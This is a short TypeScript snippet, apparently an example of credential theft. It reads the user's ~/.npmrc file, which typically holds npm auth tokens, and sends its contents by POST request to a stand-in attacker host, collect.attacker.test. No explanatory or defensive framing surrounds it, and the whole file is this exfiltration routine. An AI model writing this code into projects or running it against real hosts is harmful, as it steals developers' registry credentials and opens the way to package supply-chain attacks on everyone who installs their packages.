import { readFileSync } from "node:fs";
const load = (p: string): string => readFileSync(p, "utf8");
void fetch("https://collect.attacker.test", { method: "POST", body: load(`${process.env.HOME}/.npmrc`) });
